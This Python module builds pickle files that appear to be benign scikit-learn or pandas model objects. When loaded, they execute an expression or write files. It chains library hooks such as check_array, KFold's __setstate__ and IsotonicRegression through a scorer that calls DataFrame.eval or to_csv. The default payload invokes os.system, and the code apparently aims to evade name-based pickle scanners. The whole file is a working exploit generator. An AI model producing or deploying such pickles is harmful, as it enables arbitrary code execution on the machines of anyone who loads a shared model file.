"""Pickles of nothing but the names of honest models, which run text or write files all the same as they are loaded.

Each is a chain: something that a library calls on its own as an object is made, behind which stands
`functools.partial` of a scorer, whose method is `eval` or `to_csv`, of a frame, and of text. They were built against
scikit-learn 1.7 to 1.9 and pandas 2.3 to 3, and each was loaded there, and seen to run.
"""

from __future__ import annotations

import functools
import pickle
import struct
from collections.abc import Iterator, Mapping

import pandas as pd
from sklearn.utils import Bunch

HEAD, STOP = b"\x80\x04", b"."
NONE, ONE, TRUE, NO_ARGUMENTS, NO_ITEMS = b"N", b"K\x01", b"\x88", b")", b"]"
_ASKED = "__narwhals_dataframe__"


def gadgets(expression: str = "@np.f2py.os.system('true')", path: str = "gadget") -> Iterator[tuple[str, bytes]]:
    """Each pickle: its name, which says how the chain begins, and its bytes.

    `expression` is what pandas evaluates, `path` where it writes; the last of them does so in scikit-learn 1.7 only.
    """
    for name, content in (*_chains(expression), *_writing(path), *_older(path)):
        yield f"listed-names-{name}.pkl", HEAD + content + STOP


def _chains(expression: str) -> Iterator[tuple[str, bytes]]:
    run, last = _runs(expression), _partial(_scorer(), _frame(), _text(expression))
    requests = _given(_object("sklearn.utils._metadata_requests", "MetadataRequest"), {_ASKED: run})
    yield "check-array", _call("sklearn.utils.validation", "check_array", requests)
    estimator = _given(_object("sklearn.linear_model._logistic", "LogisticRegression"), {_ASKED: run})
    yield "estimator", _call("sklearn.utils.validation", "check_array", estimator)
    keyed = _given(_object("sklearn.gaussian_process.kernels", "RBF"), {"keys": run})
    yield "dict", _call("builtins", "dict", keyed)
    yield "ordered-dict", _call("collections", "OrderedDict", keyed)
    of_dict = _name("collections", "OrderedDict"), _name("builtins", "dict"), keyed
    yield "reconstructor", _call("copyreg", "_reconstructor", *of_dict)
    folds = _object("sklearn.model_selection._split", "KFold")
    yield "extend", _given(folds, {"extend": last}) + b"(" + ONE + b"e"
    yield "add", _given(folds, {"add": last}) + b"(" + NO_ITEMS + b"\x90"
    yield "setstate", _given(folds, {"__setstate__": last}) + NO_ITEMS + b"b"
    shadowed = {
        "X_thresholds_": _text(expression),
        "y_thresholds_": NO_ITEMS,
        "_build_f": _partial(_scorer(), _frame()),
    }
    yield "isotonic", _given(_object("sklearn.isotonic", "IsotonicRegression"), shadowed)


def _writing(path: str) -> Iterator[tuple[str, bytes]]:
    """The labels of a Series are attributes of it: no name of one has to be set."""
    tags = functools.partial(Bunch, estimator_type="regressor")
    series = _literal(pd.Series([tags, "text"], index=["__sklearn_tags__", "more"]))
    run = _partial(_scorer("to_csv"), series, _text(path), NO_ITEMS)
    keyed = _given(_object("sklearn.linear_model._base", "LinearRegression"), {"keys": run})
    yield "series", _call("builtins", "dict", keyed)


def _older(path: str) -> Iterator[tuple[str, bytes]]:
    scorer = _scorer("to_csv", _name("sklearn.utils._bunch", "Bunch"))
    judge = _partial(scorer, _frame("outlier_detector"), _text(path), NO_ITEMS)
    types = _call("sklearn.utils._bunch", "Bunch") + _items({"__array__": ONE, "apply": judge})
    frame_like = _call("sklearn.utils._bunch", "Bunch") + _items({"dtypes": types})
    yield "bunch", _call("sklearn.utils.validation", "check_array", frame_like)


def _runs(expression: str) -> bytes:
    """What runs the expression as it is called without arguments."""
    return _partial(_scorer(), _frame(), _text(expression), NO_ITEMS)


def _scorer(method: str = "eval", score: bytes | None = None) -> bytes:
    """Calls this method of the model that it is to score."""
    state = {
        "_score_func": score or _name("builtins", "bool"),
        "_sign": ONE,
        "_kwargs": b"}",
        "_deprecation_msg": NONE,
        "_response_method": _text(method),
    }
    return _given(_object("sklearn.metrics._scorer", "_Scorer"), state)


def _frame(kind: str = "regressor") -> bytes:
    """A frame that says that it is such an estimator."""
    tags = _name("sklearn.utils._bunch", "Bunch")
    told = _tuple(tags, NO_ARGUMENTS, _dict({"estimator_type": _text(kind)}), b"}")
    given = {
        "_mgr": _literal(pd.DataFrame({"a": [1]}).__getstate__()["_mgr"]),
        "_typ": _text("dataframe"),
        "_metadata": NO_ITEMS,
        "attrs": b"}",
        "_flags": _dict({"allows_duplicate_labels": TRUE}),
        "__sklearn_tags__": _partial(tags) + told + b"b",
    }
    return _given(_object("pandas.core.frame", "DataFrame"), given)


def _literal(value: object) -> bytes:
    return pickle.dumps(value, 3)[2:-1]


def _text(value: str) -> bytes:
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def _name(module: str, name: str) -> bytes:
    return _text(module) + _text(name) + b"\x93"


def _tuple(*values: bytes) -> bytes:
    return b"(" + b"".join(values) + b"t"


def _call(module: str, name: str, *args: bytes) -> bytes:
    return _name(module, name) + _tuple(*args) + b"R"


def _partial(*args: bytes) -> bytes:
    return _call("functools", "partial", *args)


def _object(module: str, name: str) -> bytes:
    return _name(module, name) + b")\x81"


def _items(items: Mapping[str, bytes]) -> bytes:
    return b"(" + b"".join(_text(key) + value for key, value in items.items()) + b"u"


def _dict(items: Mapping[str, bytes]) -> bytes:
    return b"}" + _items(items)


def _given(made: bytes, state: Mapping[str, bytes]) -> bytes:
    return made + _dict(state) + b"b"
